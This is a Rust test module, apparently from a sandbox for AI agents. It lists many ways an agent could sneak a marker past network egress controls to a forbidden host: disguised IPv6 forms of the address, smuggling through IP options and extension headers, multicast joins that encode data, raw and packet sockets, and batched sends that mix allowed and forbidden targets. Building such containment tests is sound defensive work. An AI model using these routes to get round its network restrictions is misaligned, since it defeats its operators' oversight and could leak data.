//! Attacks by what the agent itself sends: sockets of every kind, disguised addresses, headers, groups.

use std::{
    io::{self, Error, ErrorKind, Read, Write},
    net::{Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, UdpSocket},
    thread,
    time::Duration,
};

use super::Kit;
use crate::raw;

/// Connects and sends on a socket of some kind.
pub(super) fn through(fd: usize, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    raw::impatient(fd)?;
    raw::connect(fd, to)?;
    raw::send_to(fd, &kit.marker, 0, None).map(drop)
}

pub(super) fn tcp(family: i32, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    through(raw::socket(family, libc::SOCK_STREAM, 0)?, to, kit)
}

pub(super) fn kind(family: i32, kind: i32, protocol: i32, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    through(raw::socket(family, kind, protocol)?, to, kit)
}

pub(super) fn mptcp(family: i32, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    through(raw::socket(family, libc::SOCK_STREAM, libc::IPPROTO_MPTCP)?, to, kit)
}

pub(super) fn udp(family: i32, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(family, libc::SOCK_DGRAM, 0)?;
    raw::send_to(fd, &kit.marker, 0, Some(to)).map(drop)
}

pub(super) fn udp_connected(to: SocketAddr, kit: &Kit) -> io::Result<()> {
    let family = if to.is_ipv4() { libc::AF_INET } else { libc::AF_INET6 };
    through(raw::socket(family, libc::SOCK_DGRAM, 0)?, to, kit)
}

pub(super) fn bind_then_connect(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    raw::bind(fd, SocketAddr::new(kit.own.into(), 0))?;
    through(fd, kit.tcp4(), kit)
}

pub(super) fn nonblocking(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    match raw::connect(fd, kit.tcp4()) {
        Err(error) if error.raw_os_error() != Some(libc::EINPROGRESS) => return Err(error),
        _ => {}
    }
    thread::sleep(Duration::from_millis(100));
    raw::send_to(fd, &kit.marker, 0, None).map(drop)
}

pub(super) fn fastopen(family: i32, protocol: i32, to: SocketAddr, kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(family, libc::SOCK_STREAM, protocol)?;
    raw::impatient(fd)?;
    raw::send_to(fd, &kit.marker, libc::MSG_FASTOPEN, Some(to)).map(drop)
}

pub(super) fn fastopen_connect(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    raw::option(fd, libc::IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT, &1_i32.to_ne_bytes())?;
    through(fd, kit.tcp4(), kit)
}

/// One socket: to a host that may be reached, away, and to the forbidden one.
pub(super) fn reconnect(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    raw::impatient(fd)?;
    let allowed: SocketAddr = "203.0.113.10:443".parse().unwrap_or(kit.tcp4());
    let _ = raw::connect(fd, allowed);
    let nobody = [0_u8; 16];
    raw::call(libc::SYS_connect, [fd, nobody.as_ptr() as usize, nobody.len(), 0, 0, 0])?;
    raw::connect(fd, kit.tcp4())?;
    raw::send_to(fd, &kit.marker, 0, None).map(drop)
}

pub(super) fn with_option(name: i32, value: &[u8], kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    raw::option(fd, libc::SOL_SOCKET, name, value)?;
    through(fd, kit.tcp4(), kit)
}

pub(super) fn connect_then_other(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    raw::connect(fd, "203.0.113.10:443".parse().unwrap_or(kit.udp4()))?;
    raw::send_to(fd, &kit.marker, 0, Some(kit.udp4())).map(drop)
}

/// Two messages: the first to a host that may be reached, the second to the forbidden one.
pub(super) fn sendmmsg(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let to = [raw::bytes("203.0.113.10:443".parse().unwrap_or(kit.udp4())), raw::bytes(kit.udp4())];
    let harmless = b"harmless";
    let parts = [[harmless.as_ptr() as usize, harmless.len()], [kit.marker.as_ptr() as usize, kit.marker.len()]];
    let mut messages = Vec::new();
    for (to, part) in to.iter().zip(&parts) {
        // struct mmsghdr: name, namelen, iov, iovlen, control, controllen, flags, len.
        messages.extend([to.as_ptr() as usize, to.len(), part.as_ptr() as usize, 1, 0, 0, 0, 0]);
    }
    raw::call(libc::SYS_sendmmsg, [fd, messages.as_ptr() as usize, 2, 0, 0, 0]).map(drop)
}

pub(super) fn fragmented(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let mut data = vec![0; 6000];
    data.extend_from_slice(&kit.marker);
    raw::send_to(fd, &data, 0, Some(kit.udp4())).map(drop)
}

/// Many datagrams out of one send (UDP_SEGMENT).
pub(super) fn segmented(kit: &Kit) -> io::Result<()> {
    const UDP_SEGMENT: i32 = 103;
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    raw::option(fd, libc::IPPROTO_UDP, UDP_SEGMENT, &(kit.marker.len() as i32).to_ne_bytes())?;
    let data = kit.marker.repeat(20);
    raw::send_to(fd, &data, 0, Some(kit.udp4())).map(drop)
}

pub(super) fn broadcast(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    raw::option(fd, libc::SOL_SOCKET, libc::SO_BROADCAST, &1_i32.to_ne_bytes())?;
    raw::send_to(fd, &kit.marker, 0, Some("203.0.113.255:7002".parse().unwrap_or(kit.udp4()))).map(drop)
}

pub(super) fn multicast6(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    raw::option(fd, libc::IPPROTO_IPV6, libc::IPV6_MULTICAST_IF, &interface()?.to_ne_bytes())?;
    raw::send_to(fd, &kit.marker, 0, Some("[ff15::77]:7002".parse().unwrap_or(kit.udp6()))).map(drop)
}

/// The index of the network's interface.
fn interface() -> io::Result<i32> {
    let name = c"near0";
    // SAFETY: a live text with a NUL at its end.
    let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
    if index == 0 { Err(Error::last_os_error()) } else { Ok(index as i32) }
}

/// The kernel reports a group to the network: its address is the message.
fn group(kit: &Kit) -> [u8; 4] {
    [239, kit.marker[5], kit.marker[6], kit.marker[7]]
}

pub(super) fn igmp_join(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let mut request = group(kit).to_vec();
    request.extend_from_slice(&kit.own.octets());
    raw::option(fd, libc::IPPROTO_IP, libc::IP_ADD_MEMBERSHIP, &request)?;
    thread::sleep(Duration::from_millis(1200));
    Ok(())
}

pub(super) fn igmp_source_join(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let mut request = group(kit).to_vec();
    request.extend_from_slice(&kit.own.octets());
    request.extend_from_slice(&[1, 2, 3, 4]);
    raw::option(fd, libc::IPPROTO_IP, libc::IP_ADD_SOURCE_MEMBERSHIP, &request)?;
    thread::sleep(Duration::from_millis(1200));
    Ok(())
}

pub(super) fn mld_join(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    let mut request = vec![0xff, 0x15];
    request.extend_from_slice(&[0; 6]);
    request.extend_from_slice(&kit.marker);
    request.extend_from_slice(&interface()?.to_ne_bytes());
    raw::option(fd, libc::IPPROTO_IPV6, libc::IPV6_ADD_MEMBERSHIP, &request)?;
    thread::sleep(Duration::from_millis(1200));
    Ok(())
}

/// To a host that may be reached, with a word for others in the header's options.
pub(super) fn ip_options(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    raw::option(fd, libc::IPPROTO_IP, libc::IP_OPTIONS, &options(kit))?;
    raw::send_to(fd, b"harmless", 0, Some("203.0.113.10:443".parse().unwrap_or(kit.udp4()))).map(drop)
}

/// An option of a kind that nobody knows, which the kernel passes on: it carries the marker.
fn options(kit: &Kit) -> Vec<u8> {
    let mut options = vec![0x9e, 2 + kit.marker.len() as u8];
    options.extend_from_slice(&kit.marker);
    options.resize(options.len().next_multiple_of(4), 0);
    options
}

pub(super) fn ip_options_cmsg(kit: &Kit) -> io::Result<()> {
    const IP_RETOPTS: i32 = 7;
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let to = raw::bytes("203.0.113.10:443".parse().unwrap_or(kit.udp4()));
    let data = b"harmless";
    let parts = [data.as_ptr() as usize, data.len()];
    let options = options(kit);
    let mut control = Vec::new();
    control.extend_from_slice(&(16 + options.len()).to_ne_bytes());
    control.extend_from_slice(&libc::IPPROTO_IP.to_ne_bytes());
    control.extend_from_slice(&IP_RETOPTS.to_ne_bytes());
    control.extend_from_slice(&options);
    control.resize(control.len().next_multiple_of(8), 0);
    let message =
        [to.as_ptr() as usize, to.len(), parts.as_ptr() as usize, 1, control.as_ptr() as usize, control.len(), 0];
    raw::call(libc::SYS_sendmsg, [fd, message.as_ptr() as usize, 0, 0, 0, 0]).map(drop)
}

pub(super) fn hop_options(kit: &Kit) -> Vec<u8> {
    // Next header and length are the kernel's; an option of a kind that is skipped carries the marker.
    let mut header = vec![0, 1, 0x1e, 12];
    header.extend_from_slice(&kit.marker);
    header.extend_from_slice(&[0; 4]);
    header
}

pub(super) fn routing_header(kit: &Kit) -> Vec<u8> {
    // Type 2 (RFC 6275), one segment: the forbidden host.
    let mut header = vec![0, 2, 2, 1, 0, 0, 0, 0];
    header.extend_from_slice(&kit.v6.octets());
    header
}

pub(super) fn ipv6_option(name: i32, value: &[u8], kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET6, libc::SOCK_DGRAM, 0)?;
    raw::option(fd, libc::IPPROTO_IPV6, name, value)?;
    raw::send_to(fd, &kit.marker, 0, Some("[2001:db8::10]:443".parse().unwrap_or(kit.udp6()))).map(drop)
}

pub(super) fn nat64(v4: Ipv4Addr) -> Ipv6Addr {
    let [a, b, c, d] = v4.octets();
    Ipv6Addr::from([0, 0x64, 0xff, 0x9b, 0, 0, 0, 0, 0, 0, 0, 0, a, b, c, d])
}

pub(super) fn six_to_four(v4: Ipv4Addr) -> Ipv6Addr {
    let [a, b, c, d] = v4.octets();
    Ipv6Addr::from([0x20, 0x02, a, b, c, d, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1])
}

pub(super) fn compatible(v4: Ipv4Addr) -> Ipv6Addr {
    let [a, b, c, d] = v4.octets();
    Ipv6Addr::from([0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, a, b, c, d])
}

/// An echo request that carries the marker.
fn echo_request(kind: u8, kit: &Kit) -> Vec<u8> {
    let mut packet = vec![kind, 0, 0, 0, 0, 1, 0, 1];
    packet.extend_from_slice(&kit.marker);
    let sum = packet.chunks(2).fold(0_u32, |sum, pair| sum + u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let sum = (sum & 0xffff) + (sum >> 16);
    let sum = !((sum & 0xffff) + (sum >> 16)) as u16;
    packet[2..4].copy_from_slice(&sum.to_be_bytes());
    packet
}

pub(super) fn ping(family: i32, kit: &Kit) -> io::Result<()> {
    let (protocol, kind, to) = if family == libc::AF_INET {
        (1, 8, SocketAddr::new(kit.v4.into(), 0))
    } else {
        (58, 128, SocketAddr::new(kit.v6.into(), 0))
    };
    let fd = raw::socket(family, libc::SOCK_DGRAM, protocol)?;
    raw::send_to(fd, &echo_request(kind, kit), 0, Some(to)).map(drop)
}

pub(super) fn ping_connected(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 1)?;
    raw::connect(fd, SocketAddr::new(kit.v4.into(), 0))?;
    raw::send_to(fd, &echo_request(8, kit), 0, None).map(drop)
}

pub(super) fn raw_icmp(family: i32, protocol: i32, kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(family, libc::SOCK_RAW, protocol)?;
    let (kind, to) = if family == libc::AF_INET { (8, kit.v4.into()) } else { (128, kit.v6.into()) };
    raw::send_to(fd, &echo_request(kind, kit), 0, Some(SocketAddr::new(to, 0))).map(drop)
}

/// A UDP header in front of the marker, or just the marker.
pub(super) fn raw_transport(protocol: i32, kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_RAW, protocol)?;
    let mut data = vec![0x1b, 0x5a, 0x1b, 0x5a, 0, 8 + kit.marker.len() as u8, 0, 0];
    data.extend_from_slice(&kit.marker);
    raw::send_to(fd, &data, 0, Some(SocketAddr::new(kit.v4.into(), 0))).map(drop)
}

pub(super) fn raw_hdrincl(kit: &Kit) -> io::Result<()> {
    let fd = raw::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)?;
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0];
    packet.extend_from_slice(&kit.own.octets());
    packet.extend_from_slice(&kit.v4.octets());
    packet.extend_from_slice(&[0x1b, 0x5a, 0x1b, 0x5a, 0, 8 + kit.marker.len() as u8, 0, 0]);
    packet.extend_from_slice(&kit.marker);
    raw::send_to(fd, &packet, 0, Some(SocketAddr::new(kit.v4.into(), 0))).map(drop)
}

pub(super) fn packet(kind: i32, ethertype: u16, bypass: bool, kit: &Kit) -> io::Result<()> {
    const PACKET_QDISC_BYPASS: i32 = 20;
    let fd = raw::socket(libc::AF_PACKET, kind, i32::from(ethertype.to_be()))?;
    if bypass {
        raw::option(fd, libc::SOL_PACKET, PACKET_QDISC_BYPASS, &1_i32.to_ne_bytes())?;
    }
    let mut address = Vec::new();
    address.extend_from_slice(&(libc::AF_PACKET as u16).to_ne_bytes());
    address.extend_from_slice(&ethertype.to_be_bytes());
    address.extend_from_slice(&interface()?.to_ne_bytes());
    address.extend_from_slice(&[1, 0, 0, 6]);
    address.extend_from_slice(&[0xff; 6]);
    address.extend_from_slice(&[0, 0]);
    let mut frame = Vec::new();
    if kind == libc::SOCK_RAW {
        frame.extend_from_slice(&[0xff; 6]);
        frame.extend_from_slice(&[2, 0, 0, 0, 0, 1]);
        frame.extend_from_slice(&ethertype.to_be_bytes());
    }
    frame.extend_from_slice(&kit.marker);
    frame.resize(60, 0);
    let a = [fd, frame.as_ptr() as usize, frame.len(), 0, address.as_ptr() as usize, address.len()];
    raw::call(libc::SYS_sendto, a).map(drop)
}

/// The far end calls meanwhile; whatever it says is said back.
pub(super) fn inbound_tcp() -> io::Result<()> {
    let listener = TcpListener::bind("0.0.0.0:7777")?;
    listener.set_nonblocking(true)?;
    for _ in 0..60 {
        if let Ok((mut stream, _)) = listener.accept() {
            stream.set_nonblocking(false)?;
            let mut buffer = [0; 64];
            let count = stream.read(&mut buffer)?;
            return stream.write_all(&buffer[..count]);
        }
        thread::sleep(Duration::from_millis(10));
    }
    Err(ErrorKind::TimedOut.into())
}

pub(super) fn inbound_udp() -> io::Result<()> {
    let socket = UdpSocket::bind("0.0.0.0:7777")?;
    socket.set_read_timeout(Some(Duration::from_millis(600)))?;
    let mut buffer = [0; 64];
    let (count, from) = socket.recv_from(&mut buffer)?;
    socket.send_to(&buffer[..count], from).map(drop)
}

pub(super) fn relay(host: std::net::IpAddr, kit: &Kit) -> io::Result<()> {
    let family = if host.is_ipv4() { libc::AF_INET } else { libc::AF_INET6 };
    let fd = raw::socket(family, libc::SOCK_STREAM, 0)?;
    through(fd, SocketAddr::new(host, kit.relay), kit)?;
    thread::sleep(Duration::from_millis(50));
    Ok(())
}
